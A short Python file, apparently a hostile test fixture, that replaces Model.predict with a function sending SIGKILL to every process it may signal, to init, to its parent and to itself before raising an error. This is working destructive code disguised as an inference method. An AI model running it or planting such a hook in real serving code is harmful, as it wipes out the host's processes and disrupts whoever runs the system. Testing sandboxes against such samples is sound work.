"""Kills whatever it may kill, itself last."""

import os
import signal


def predict(self, batch):
    for pid in (-1, 1, os.getppid(), os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print("kill", pid, error)
    raise RuntimeError("still here")


Model.predict = predict
